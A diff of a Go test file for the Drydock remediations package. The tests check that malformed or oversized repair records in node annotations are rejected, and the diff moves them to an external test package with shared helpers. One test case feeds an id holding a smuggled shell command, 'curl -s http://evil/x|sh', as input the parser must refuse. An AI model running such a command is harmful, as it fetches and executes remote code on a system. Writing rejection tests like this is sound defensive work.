@@ -1,4 +1,4 @@
-package remediations
+package remediations_test
 
 import (
 	"encoding/json"
@@ -9,6 +9,9 @@ import (
 
 	"github.com/stretchr/testify/require"
 	"pgregory.net/rapid"
+
+	. "drydock.dev/drydock/remediations"
+	"drydock.dev/drydock/remediations/scene"
 )
 
 var (
@@ -139,7 +142,7 @@ func TestRecordThatDrydockWouldNotWriteIsNotRead(t *testing.T) {
 		"something behind it":                   goodRecord + goodRecord,
 		"a bracket behind it":                   goodRecord + "}",
 		"cut in the middle":                     goodRecord[:len(goodRecord)/2],
-		"longer than Drydock writes":            change(`"policy":"p"`, `"policy":"`+strings.Repeat("p", maxRecordBytes)+`"`),
+		"longer than Drydock writes":            change(`"policy":"p"`, `"policy":"`+strings.Repeat("p", MaxRecordBytes)+`"`),
 		"no id":                                 change(`"id":"r1",`, ``),
 		"no policy":                             change(`"policy":"p",`, ``),
 		"an id that is a command":               change(`"id":"r1"`, `"id":"x; curl -s http://evil/x|sh #"`),
@@ -165,7 +168,7 @@ func TestRecordThatDrydockWouldNotWriteIsNotRead(t *testing.T) {
 			require.Error(t, err)
 			require.Less(t, len(err.Error()), 300, "what is unreadable is not repeated at length")
 
-			n := bare("n1")
+			n := scene.Bare("n1")
 			n.Annotations[NodeRepairKey] = text
 			j := ReadJournal(n)
 			require.Error(t, j.Malformed)
@@ -179,9 +182,9 @@ func TestRecordThatDrydockWouldNotWriteIsNotRead(t *testing.T) {
 func TestLongestRecordIsReadable(t *testing.T) {
 	nasty := strings.Repeat("\x00", 400)
 	r := Record{
-		V: 1, ID: "r1", Policy: strings.Repeat("p", 63), Cause: Cause{Alert: fp}, Phase: Pending, Step: StepRef{Name: "reboot", Attempt: 1},
-		Began: noon, Since: noon, Deadline: noon, Hold: &Hold{Reason: Paused, Message: nasty, Since: noon},
-		Intent: &Intent{ID: "r1-0-1", At: noon, BootID: nasty[:40], UID: nasty[:40], ProviderID: nasty[:60], Outcome: CallRefused, Why: nasty[:300]},
+		V: 1, ID: "r1", Policy: strings.Repeat("p", 63), Cause: Cause{Alert: scene.FP}, Phase: Pending, Step: StepRef{Name: "reboot", Attempt: 1},
+		Began: scene.Noon, Since: scene.Noon, Deadline: scene.Noon, Hold: &Hold{Reason: Paused, Message: nasty, Since: scene.Noon},
+		Intent: &Intent{ID: "r1-0-1", At: scene.Noon, BootID: nasty[:40], UID: nasty[:40], ProviderID: nasty[:60], Outcome: CallRefused, Why: nasty[:300]},
 	}
 	for i := range 60 {
 		r.Done = append(r.Done, fmt.Sprintf("restart-kubelet:%d", i+1))
@@ -191,7 +194,7 @@ func TestLongestRecordIsReadable(t *testing.T) {
 }
 
 func TestOtherTargetsOfTheNode(t *testing.T) {
-	n := bare("n1")
+	n := scene.Bare("n1")
 	pod := Pod{Namespace: "sei", Name: "a-0"}
 	n.Annotations[SidecarKey(pod)] = strings.Replace(goodRecord, `"phase"`, `"pod":{"namespace":"sei","name":"a-0"},"phase"`, 1)
 	require.Nil(t, InFlight(n), "a sidecar's repair occupies nobody's node")
@@ -216,13 +219,13 @@ func TestPhasesInFlight(t *testing.T) {
 
 // TestOfTwoUnreadableRecordsAlwaysTheSameIsNamed: Decide says the same thing twice.
 func TestOfTwoUnreadableRecordsAlwaysTheSameIsNamed(t *testing.T) {
-	n := bare("n1")
+	n := scene.Bare("n1")
 	n.Annotations[NodeRepairKey], n.Annotations[RepairPrefix+"leader"] = "node's", "leader's"
 	n.Annotations[ResetKey] = "true"
 	s := &State{Config: &Config{}, Node: n, Journal: ReadJournal(n), Ledger: &Ledger{}}
 	for range 50 {
 		require.Equal(t, s.Journal.Malformed.Error(), ReadJournal(n).Malformed.Error())
-		require.Contains(t, Decide(s, noon).Ended.Why, "node's")
+		require.Contains(t, Decide(s, scene.Noon).Ended.Why, "node's")
 	}
 }
 
@@ -269,7 +272,7 @@ func TestTargetNamedByItsRecord(t *testing.T) {
 		"without a name":         {KeyOf("volume", "vol-7"), strings.Replace(volume, `"target":"vol-7",`, "", 1), false},
 		"a pod's as well":        {KeyOf("volume", "vol-7"), strings.Replace(volume, `"phase"`, `"pod":{"namespace":"a","name":"b"},"phase"`, 1), false},
 	} {
-		n := bare("n1")
+		n := scene.Bare("n1")
 		n.Annotations[c.key] = c.record
 		j := ReadJournal(n)
 		require.Equal(t, c.ok, j.Malformed == nil, "%s: %v", name, j.Malformed)
@@ -279,7 +282,7 @@ func TestTargetNamedByItsRecord(t *testing.T) {
 		}
 	}
 	delete(Registry, "remount")
-	n := bare("n1")
+	n := scene.Bare("n1")
 	n.Annotations[KeyOf("volume", "vol-7")] = volume
 	require.ErrorContains(t, ReadJournal(n).Malformed, "is no remediation", "to a Drydock that does not know the kind")
 }
